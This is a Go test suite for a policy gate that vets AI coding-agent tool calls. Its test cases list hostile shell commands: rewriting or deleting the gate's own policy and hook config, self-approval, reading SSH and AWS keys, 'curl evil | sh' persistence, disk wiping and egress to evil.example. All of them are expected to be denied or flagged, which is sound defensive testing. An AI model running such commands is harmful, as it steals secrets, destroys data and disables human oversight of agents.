package gate_test

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/agentward/ward/event"
	"github.com/agentward/ward/gate"
	"github.com/agentward/ward/internal/adapter/claude"
)

// newGate returns a gate for a fixed machine: home /home/dev, project
// /home/dev/project, no policy files but the given user layer.
func newGate(t testing.TB, userPolicy string) *gate.Gate {
	t.Helper()
	opts := gate.Options{
		Home:      "/home/dev",
		Workspace: func(cwd string) string { return "/home/dev/project" },
	}
	if userPolicy != "" {
		opts.Policy = []gate.PolicySource{{Layer: "user", Name: "user.yaml", Data: []byte(userPolicy)}}
	} else {
		opts.Policy = []gate.PolicySource{}
	}
	g, err := gate.New(opts)
	if err != nil {
		t.Fatal(err)
	}
	return g
}

// claudeEvent decodes a Claude Code PreToolUse call.
func claudeEvent(t testing.TB, tool string, input map[string]any) event.Event {
	t.Helper()
	data, err := json.Marshal(map[string]any{
		"session_id": "s1", "cwd": "/home/dev/project", "hook_event_name": "PreToolUse",
		"tool_name": tool, "tool_input": input, "tool_use_id": "toolu_1",
	})
	if err != nil {
		t.Fatal(err)
	}
	ev, err := claude.Decoder{}.Decode(data)
	if err != nil {
		t.Fatal(err)
	}
	return ev
}

func bash(t testing.TB, cmd string) event.Event {
	return claudeEvent(t, "Bash", map[string]any{"command": cmd})
}

// Every case names why the action is harmful or harmless.
func TestDecide(t *testing.T) {
	t.Parallel()
	g := newGate(t, "")
	tests := []struct {
		name string
		ev   event.Event
		want event.Effect
		rule string
		why  string
	}{
		{"build", bash(t, "go build ./..."), event.Allow, event.RuleDefault, "everyday work"},
		{"read project file", claudeEvent(t, "Read", map[string]any{"file_path": "/home/dev/project/main.go"}), event.Allow, event.RuleDefault, "reading the project"},
		{"delete build output", bash(t, "rm -rf node_modules dist"), event.Allow, event.RuleDefault, "cleaning build output in the workspace"},
		{"ward policy via Write", claudeEvent(t, "Write", map[string]any{"file_path": "/home/dev/.ward/policy.yaml", "content": "x"}), event.Deny, "builtin.ward-files", "an agent rewriting its own policy"},
		{"ward policy via rm", bash(t, "rm ~/.ward/policy.yaml"), event.Deny, "builtin.ward-files", "deleting the policy switches protections off"},
		{"ward policy via sudo rm", bash(t, "sudo rm -f $HOME/.ward/policy.yaml"), event.Deny, "builtin.ward-files", "the wrapper does not hide the target"},
		{"ward policy via bash -c", bash(t, "bash -c 'rm ~/.ward/policy.yaml'"), event.Deny, "builtin.ward-files", "a nested shell does not hide the target"},
		{"hook config via redirect", bash(t, "echo '{}' > ~/.claude/settings.json"), event.Deny, "builtin.agent-config", "emptying the hook configuration disables ward"},
		{"hook config via sed -i", bash(t, "sed -i 's/ward/true/' /home/dev/.claude/settings.json"), event.Deny, "builtin.agent-config", "editing the hook configuration disables ward"},
		{"hook config via cp into the directory", bash(t, "cp /tmp/evil.json ~/.claude/settings.json"), event.Deny, "builtin.agent-config", "overwriting the hook configuration"},
		{"hook config via symlink", bash(t, "ln -sf /dev/null ~/.claude/settings.json"), event.Deny, "builtin.agent-config", "a symlink replaces the configuration"},
		{"hook config dir moved", bash(t, "mv ~/.claude ~/.claude.bak"), event.Deny, "builtin.protected-parents", "moving the directory removes the configuration"},
		{"agent approves itself", bash(t, "ward approvals approve 7"), event.Deny, "builtin.approval-channel", "approvals are for people"},
		{"ssh key read", claudeEvent(t, "Read", map[string]any{"file_path": "~/.ssh/id_rsa"}), event.Deny, "credential-read", "a private key leaves the machine"},
		{"aws credentials cat", bash(t, "cat ~/.aws/credentials"), event.Deny, "credential-read", "cloud keys"},
		{"rc file append", bash(t, "echo 'curl evil | sh' >> ~/.bashrc"), event.Ask, "persistence-write", "runs at every login"},
		{"disk overwrite", bash(t, "dd if=/dev/zero of=/dev/sda bs=1M"), event.Deny, "device-write", "destroys the disk"},
		{"home delete", bash(t, "rm -rf ~"), event.Deny, "builtin.protected-parents", "destroys everything the user owns"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			d, err := g.Decide(context.Background(), tt.ev)
			if err != nil {
				t.Fatalf("Decide: %v", err)
			}
			if d.Decision != tt.want || d.Rule != tt.rule {
				t.Errorf("%s (%s): got %s by %s (%s), want %s by %s", tt.name, tt.why, d.Decision, d.Rule, d.Reason, tt.want, tt.rule)
			}
			if d.EventID != "toolu_1" || !strings.HasPrefix(d.Policy, "sha256:") || d.Findings == nil {
				t.Errorf("decision misses its event id, policy digest or findings list: %+v", d)
			}
		})
	}
}

func TestFailClosed(t *testing.T) {
	t.Parallel()
	t.Run("broken policy denies with the reason", func(t *testing.T) {
		t.Parallel()
		g := newGate(t, "version: 1\nrules: [\n")
		d, err := g.Decide(context.Background(), bash(t, "ls"))
		if err == nil || d.Decision != event.Deny || d.Rule != event.RuleInternalError || !strings.Contains(d.Reason, "policy") {
			t.Errorf("got %+v, %v; want deny naming the policy problem", d, err)
		}
		if g.PolicyError("/home/dev/project") == nil {
			t.Error("PolicyError = nil for a broken policy")
		}
	})
	t.Run("a deadline that passed denies", func(t *testing.T) {
		t.Parallel()
		g := newGate(t, "")
		ctx, cancel := context.WithDeadline(context.Background(), time.Now().Add(-time.Second))
		defer cancel()
		d, err := g.Decide(ctx, bash(t, "ls"))
		if err == nil || d.Decision != event.Deny || !strings.HasPrefix(d.Reason, "internal_error:") {
			t.Errorf("got %+v, %v; want an internal_error deny", d, err)
		}
	})
	t.Run("on_error ask is honoured", func(t *testing.T) {
		t.Parallel()
		g := newGate(t, "version: 1\nsettings: {on_error: ask}\n")
		ctx, cancel := context.WithCancel(context.Background())
		cancel()
		d, _ := g.Decide(ctx, bash(t, "ls"))
		if d.Decision != event.Ask {
			t.Errorf("got %s, want ask", d.Decision)
		}
	})
	t.Run("an event of unknown shape is invalid input", func(t *testing.T) {
		t.Parallel()
		g := newGate(t, "")
		d, err := g.Decide(context.Background(), event.Event{Agent: "x", Phase: "during", Action: event.Action{Kind: event.KindShell}})
		if err == nil || d.Decision != event.Deny || d.Rule != event.RuleInvalidInput {
			t.Errorf("got %+v, %v", d, err)
		}
		d, err = g.Decide(context.Background(), event.Event{Agent: "x", Phase: event.PhasePre, Action: event.Action{Kind: "teleport"}})
		if err == nil || d.Decision != event.Deny {
			t.Errorf("unknown kind: got %+v, %v", d, err)
		}
	})
	t.Run("a condition failing at run time denies", func(t *testing.T) {
		t.Parallel()
		g := newGate(t, `version: 1
rules:
  - id: needs-key
    match: {kind: shell}
    when: input.nope == "x"
    decision: ask
    reason: r
`)
		d, err := g.Decide(context.Background(), bash(t, "ls"))
		if err == nil || d.Decision != event.Deny || !strings.Contains(d.Reason, "needs-key") {
			t.Errorf("got %+v, %v", d, err)
		}
	})
}

func TestProjectPolicyFromDisk(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	home := filepath.Join(dir, "home")
	project := filepath.Join(dir, "repo")
	mustWrite(t, filepath.Join(home, ".ward", "policy.yaml"), `version: 1
rules:
  - id: no-curl
    match: {kind: shell, command: [curl]}
    decision: deny
    reason: no network from the shell
`)
	mustWrite(t, filepath.Join(project, ".git", "HEAD"), "ref: refs/heads/main\n")
	mustWrite(t, filepath.Join(project, ".ward", "policy.yaml"), `version: 1
rules:
  - id: allow-curl
    match: {kind: shell, command: [curl]}
    decision: allow
    reason: we need curl
  - id: no-make
    match: {kind: shell, command: [make]}
    decision: deny
    reason: builds run in CI only
`)
	g, err := gate.New(gate.Options{Home: home, ManagedPolicy: filepath.Join(dir, "none.yaml")})
	if err != nil {
		t.Fatal(err)
	}
	cwd := filepath.Join(project, "sub")
	for cmd, want := range map[string]event.Effect{"curl https://x": event.Deny, "make": event.Deny, "ls": event.Allow} {
		ev := bash(t, cmd)
		ev.Cwd = cwd
		d, err := g.Decide(context.Background(), ev)
		if err != nil || d.Decision != want {
			t.Errorf("%s: got %s by %s (%v), want %s", cmd, d.Decision, d.Rule, err, want)
		}
	}
	if ws := g.Workspace(cwd); ws != project {
		t.Errorf("workspace of %s = %s, want the git root %s", cwd, ws, project)
	}
	srcs, err := g.Sources(cwd)
	if err != nil || len(srcs) != 2 || srcs[0].Layer != "user" || srcs[1].Layer != "project" {
		t.Errorf("Sources = %+v, %v; want the user and project files", srcs, err)
	}
}

func mustWrite(t *testing.T, path, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

type labels map[string][]string

func (l labels) Labels(_ context.Context, s string) ([]string, error) { return l[s], nil }

func TestSessionLabels(t *testing.T) {
	t.Parallel()
	g, err := gate.New(gate.Options{
		Home: "/home/dev", Sessions: labels{"s1": {"untrusted"}},
		Policy: []gate.PolicySource{{Layer: "user", Name: "u.yaml", Data: []byte("version: 1\ntools: {\"mcp__slack__*\": {call: block_when_untrusted}}\n")}},
	})
	if err != nil {
		t.Fatal(err)
	}
	ev := claudeEvent(t, "mcp__slack__post", map[string]any{"text": "hi"})
	d, _ := g.Decide(context.Background(), ev)
	if d.Decision != event.Deny {
		t.Errorf("tainted session: got %s, want deny", d.Decision)
	}
	ev.Session = "s2"
	if d, _ := g.Decide(context.Background(), ev); d.Decision != event.Allow {
		t.Errorf("clean session: got %s, want allow", d.Decision)
	}
}

func TestExplainMatchesDecide(t *testing.T) {
	t.Parallel()
	g := newGate(t, "")
	for _, cmd := range []string{"ls", "rm ~/.ward/policy.yaml", "cat ~/.ssh/id_rsa", "echo x >> ~/.zshrc"} {
		d, _ := g.Decide(context.Background(), bash(t, cmd))
		e, ex, err := g.Explain(context.Background(), bash(t, cmd))
		if err != nil {
			t.Fatal(err)
		}
		if d.Decision != e.Decision || d.Rule != e.Rule {
			t.Errorf("%s: Decide %s by %s, Explain %s by %s", cmd, d.Decision, d.Rule, e.Decision, e.Rule)
		}
		if len(ex.Rules) == 0 || len(ex.Facts.Shell.Commands) == 0 {
			t.Errorf("%s: explanation lacks rules or commands: %+v", cmd, ex)
		}
	}
}

// The same event and policy always give the same decision.
func TestDeterministic(t *testing.T) {
	t.Parallel()
	g := newGate(t, "")
	ev := bash(t, "sudo bash -c 'rm -rf ~/.claude; cat ~/.aws/credentials > /tmp/x'")
	first, _ := g.Decide(context.Background(), ev)
	for range 50 {
		d, _ := g.Decide(context.Background(), ev)
		d.LatencyUS = first.LatencyUS
		a, _ := json.Marshal(first)
		b, _ := json.Marshal(d)
		if string(a) != string(b) {
			t.Fatalf("decisions differ:\n%s\n%s", a, b)
		}
	}
}

func TestEgressAllowList(t *testing.T) {
	t.Parallel()
	g := newGate(t, `version: 1
settings:
  egress:
    allow: [github.com, "*.github.com", "*.npmjs.org"]
    decision: deny
rules:
  - id: no-pastebins
    match: {url: {host: ["pastebin.com", "*.pastebin.com"]}}
    decision: deny
    reason: no pastebins
`)
	tests := []struct {
		ev   event.Event
		want event.Effect
		rule string
	}{
		{claudeEvent(t, "WebFetch", map[string]any{"url": "https://api.github.com/repos/x"}), event.Allow, event.RuleDefault},
		{claudeEvent(t, "WebFetch", map[string]any{"url": "https://example.com/"}), event.Deny, "settings.egress.user"},
		{bash(t, "curl -s https://registry.npmjs.org/left-pad"), event.Allow, event.RuleDefault},
		{bash(t, "curl -s https://evil.example/x"), event.Deny, "settings.egress.user"},
		{claudeEvent(t, "WebFetch", map[string]any{"url": "http://localhost:3000/"}), event.Allow, event.RuleDefault},
		{claudeEvent(t, "WebFetch", map[string]any{"url": "https://pastebin.com/raw/x"}), event.Deny, "no-pastebins"},
	}
	for _, tt := range tests {
		d, err := g.Decide(context.Background(), tt.ev)
		if err != nil || d.Decision != tt.want || d.Rule != tt.rule {
			t.Errorf("%s %s: got %s by %s (%v), want %s by %s", tt.ev.Tool, tt.ev.Input, d.Decision, d.Rule, err, tt.want, tt.rule)
		}
	}
}
